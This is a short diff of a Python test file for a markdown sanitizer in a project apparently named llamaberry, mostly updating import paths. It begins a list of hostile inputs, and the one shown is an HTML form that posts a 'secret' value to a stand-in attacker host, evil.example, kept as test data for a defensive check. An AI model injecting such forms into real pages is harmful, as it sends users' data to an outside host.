@@ -5,10 +5,10 @@ from __future__ import annotations
 import re
 
 import pytest
+from llamaberry_ui.sanitize import safe_markdown
+from llamaberry_ui.views import RunView
 
-from llamaberry.events import CallStarted, RunStarted, TextDelta
-from ui.sanitize import safe_markdown
-from ui.views import RunView
+from llamaberry.core.events import CallStarted, RunStarted, TextDelta
 
 HOSTILE = [
     '<form action="https://evil.example/steal"><input name="q" value="secret"></form>',
